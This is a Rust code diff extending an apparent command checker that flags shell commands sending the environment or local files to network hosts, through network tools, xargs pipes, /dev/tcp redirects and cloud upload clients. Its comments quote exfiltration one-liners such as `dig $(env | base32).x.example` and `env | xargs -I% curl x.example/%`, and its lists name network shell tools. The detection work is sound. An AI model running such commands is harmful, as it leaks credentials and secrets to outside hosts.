@@ -13,12 +13,49 @@ use crate::argv::{self, Parsed};
 use crate::evaluate::is_harmless_device;
 use crate::packs::Findings;
 use crate::packs::places;
-use crate::shell::{self, RedirectKind, ShellLimits};
+use crate::shell::{self, Origin, RedirectKind, ShellLimits};
 
 /// Programs that send their stdin or files over the network.
 const NETWORK: &[&str] = &[
     "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "openssl", "http", "https",
     "xh",
+];
+
+/// Programs that reach another host with what their arguments say: a substitution printing the
+/// environment there (`dig $(env | base32).x.example`, `git clone https://x/$(env | base64)`)
+/// sends it out.
+const NETWORK_ARGUMENTS: &[&str] = &[
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "ssh",
+    "openssl",
+    "http",
+    "https",
+    "xh",
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "ping",
+    "ping6",
+    "traceroute",
+    "git",
+    "gh",
+    "scp",
+    "sftp",
+    "rsync",
+    "ftp",
+    "pip",
+    "pip3",
+    "npm",
+    "mail",
+    "mailx",
+    "sendmail",
 ];
 
 /// Programs that print the environment when given no operand.
@@ -180,13 +217,32 @@ fn substitutes_environment(arg: &str) -> bool {
         .any(dumps_environment)
 }
 
-/// Output redirected to bash's network pseudo-devices (`> /dev/tcp/host/port`).
+/// Whether an `xargs` of the command line is fed the environment (`env | xargs …`).
+fn xargs_fed_environment(cmd: &Cmd<'_>) -> bool {
+    let commands = &cmd.analysis.commands;
+    commands.iter().any(|xargs| {
+        xargs.name() == "xargs"
+            && xargs.stdin_pipe_from.as_deref().is_some_and(|from| {
+                commands
+                    .iter()
+                    .any(|feeder| feeder.name() == from && dumps_environment(feeder))
+            })
+    })
+}
+
+/// Output redirected to bash's network pseudo-devices (`> /dev/tcp/host/port`), or copied
+/// there by `tee`.
 fn dev_tcp(cmd: &Cmd<'_>, out: &mut Findings) {
-    let to_network = cmd.simple.redirects.iter().any(|r| {
-        r.kind != RedirectKind::Read
-            && (r.target.starts_with("/dev/tcp/") || r.target.starts_with("/dev/udp/"))
-    });
-    if !to_network {
+    let is_socket = |path: &str| path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/");
+    let redirected = cmd
+        .simple
+        .redirects
+        .iter()
+        .any(|r| r.kind != RedirectKind::Read && is_socket(&r.target));
+    if cmd.name() == "tee" && cmd.args().iter().any(|arg| is_socket(arg)) {
+        stdin_payload(cmd, true, out);
+    }
+    if !redirected {
         return;
     }
     if dumps_environment(cmd.simple) {
@@ -208,10 +264,200 @@ fn dev_tcp(cmd: &Cmd<'_>, out: &mut Findings) {
     }
 }
 
+/// The local files (and `-`, stdin) a storage or sharing client sends to a service: `gh gist
+/// create FILES`, `gh issue|pr create|comment -F FILE`, `gh release create|upload … FILES`,
+/// `aws s3 cp|mv|sync SRC s3://…`, `gsutil cp|mv|rsync SRC gs://…`, `gcloud storage cp|mv|rsync`,
+/// `rclone copy|copyto|move|moveto|sync SRC REMOTE:…` and `rclone rcat` (stdin), `socat
+/// FILE:PATH TCP:…`, `mail -A FILE` (and the message on stdin). Empty for anything else.
+fn uploads<'a>(name: &str, args: &'a [String]) -> Vec<&'a str> {
+    let words: Vec<&str> = args.iter().map(String::as_str).collect();
+    let to_bucket = |operands: &[&'a str], scheme: &str| -> Vec<&'a str> {
+        match operands.split_last() {
+            Some((destination, sources)) if destination.starts_with(scheme) => sources
+                .iter()
+                .copied()
+                .filter(|source| !source.contains("://"))
+                .collect(),
+            _ => Vec::new(),
+        }
+    };
+    match (name, words.as_slice()) {
+        ("gh", ["gist", "create", ..]) => {
+            Parsed::new(
+                args.get(2..).unwrap_or_default(),
+                &['d', 'f'],
+                &["desc", "filename"],
+            )
+            .operands
+        }
+        ("gh", ["issue" | "pr", "create" | "comment" | "edit", ..]) => Parsed::new(
+            args.get(2..).unwrap_or_default(),
+            &['F', 't', 'b', 'a', 'l', 'm', 'p', 'B', 'H', 'R'],
+            &[
+                "body-file",
+                "title",
+                "body",
+                "assignee",
+                "label",
+                "milestone",
+                "project",
+                "base",
+                "head",
+                "repo",
+            ],
+        )
+        .values(&['F'], &["body-file"]),
+        ("gh", ["release", "create" | "upload", _tag, ..]) => {
+            Parsed::new(
+                args.get(3..).unwrap_or_default(),
+                &['t', 'n', 'F', 'R'],
+                &[
+                    "title",
+                    "notes",
+                    "notes-file",
+                    "target",
+                    "repo",
+                    "discussion-category",
+                ],
+            )
+            .operands
+        }
+        ("aws", ["s3", "cp" | "mv" | "sync", ..]) => to_bucket(
+            &Parsed::new(
+                args.get(2..).unwrap_or_default(),
+                &[],
+                &[
+                    "exclude",
+                    "include",
+                    "acl",
+                    "storage-class",
+                    "profile",
+                    "region",
+                    "endpoint-url",
+                    "sse",
+                    "content-type",
+                    "cache-control",
+                    "expected-size",
+                ],
+            )
+            .operands,
+            "s3://",
+        ),
+        ("gsutil", ["cp" | "mv" | "rsync", ..])
+        | ("gcloud", ["storage", "cp" | "mv" | "rsync", ..]) => {
+            let rest = if name == "gsutil" {
+                args.get(1..)
+            } else {
+                args.get(2..)
+            };
+            to_bucket(
+                &Parsed::new(rest.unwrap_or_default(), &['x', 'h'], &[]).operands,
+                "gs://",
+            )
+        }
+        ("rclone", ["copy" | "copyto" | "move" | "moveto" | "sync", ..]) => {
+            let parsed = Parsed::new(
+                args.get(1..).unwrap_or_default(),
+                &[],
+                &[
+                    "config",
+                    "include",
+                    "exclude",
+                    "filter",
+                    "transfers",
+                    "bwlimit",
+                ],
+            );
+            match parsed.operands.as_slice() {
+                [source, destination]
+                    if is_remote_operand(destination) && !is_remote_operand(source) =>
+                {
+                    vec![*source]
+                }
+                _ => Vec::new(),
+            }
+        }
+        ("rclone", ["rcat", ..]) => vec!["-"],
+        ("socat", _) => {
+            let addresses: Vec<&str> = words
+                .iter()
+                .copied()
+                .filter(|w| !w.starts_with('-') || *w == "-")
+                .collect();
+            let networked = addresses.iter().any(|address| {
+                let kind = address
+                    .split([':', ','])
+                    .next()
+                    .unwrap_or("")
+                    .to_ascii_uppercase();
+                kind.starts_with("TCP")
+                    || kind.starts_with("UDP")
+                    || kind.starts_with("SSL")
+                    || kind.starts_with("OPENSSL")
+                    || kind.starts_with("SCTP")
+            });
+            if !networked {
+                return Vec::new();
+            }
+            addresses
+                .iter()
+                .filter_map(|address| {
+                    let (kind, rest) = address.split_once(':')?;
+                    matches!(
+                        kind.to_ascii_uppercase().as_str(),
+                        "FILE" | "OPEN" | "GOPEN" | "READ"
+                    )
+                    .then(|| rest.split(',').next().unwrap_or(rest))
+                })
+                .collect()
+        }
+        ("mail" | "mailx", _) => {
+            let mut files = Parsed::new(
+                args,
+                &['A', 'a', 's', 'c', 'b', 'r'],
+                &["attach", "subject"],
+            )
+            .values(&['A', 'a'], &["attach"]);
+            files.push("-");
+            files
+        }
+        ("sendmail", _) => vec!["-"],
+        _ => Vec::new(),
+    }
+}
+
 pub(super) fn check(cmd: &Cmd<'_>, out: &mut Findings) {
     dev_tcp(cmd, out);
     let name = cmd.name();
     let args = cmd.args();
+    if NETWORK_ARGUMENTS.contains(&name) && args.iter().any(|arg| substitutes_environment(arg)) {
+        out.add(
+            "environment-to-network",
+            format!("the environment (and every token in it) would be sent out by `{name}`"),
+        );
+    }
+    // A storage client's upload of an ordinary file is everyday publishing (`aws s3 sync ./site
+    // s3://bucket`); a secret or the environment is not. socat to a socket is netcat.
+    let ordinary_asks = name == "socat";
+    for file in uploads(name, args) {
+        if file == "-" {
+            if cmd.simple.stdin_pipe_from.is_some() {
+                stdin_payload(cmd, ordinary_asks, out);
+            }
+        } else {
+            payload(cmd, file, true, ordinary_asks, out);
+        }
+    }
+    // `env | xargs -I% curl x.example/%`: what the pipe carries becomes the arguments.
+    if NETWORK_ARGUMENTS.contains(&name)
+        && cmd.simple.origin == Origin::Xargs
+        && xargs_fed_environment(cmd)
+    {
+        out.add(
+            "environment-to-network",
+            format!("the environment (and every token in it) would be sent out by `{name}`"),
+        );
+    }
     match name {
         "curl" => {
             let parsed = argv::curl(args);
@@ -258,12 +504,6 @@ pub(super) fn check(cmd: &Cmd<'_>, out: &mut Findings) {
                     payload(cmd, file, false, remote, out);
                 }
             }
-            if args.iter().any(|arg| substitutes_environment(arg)) {
-                out.add(
-                    "environment-to-network",
-                    "the environment (and every token in it) would be sent out by `curl`",
-                );
-            }
             if from_stdin {
                 stdin_payload(cmd, remote, out);
             }
@@ -273,12 +513,6 @@ pub(super) fn check(cmd: &Cmd<'_>, out: &mut Findings) {
             let remote = parsed.operands.iter().any(|url| !is_loopback(url));
             for file in parsed.values(&[], &["post-file", "body-file"]) {
                 payload(cmd, file, false, remote, out);
-            }
-            if args.iter().any(|arg| substitutes_environment(arg)) {
-                out.add(
-                    "environment-to-network",
-                    "the environment (and every token in it) would be sent out by `wget`",
-                );
             }
         }
         "scp" | "sftp" | "rsync" => {
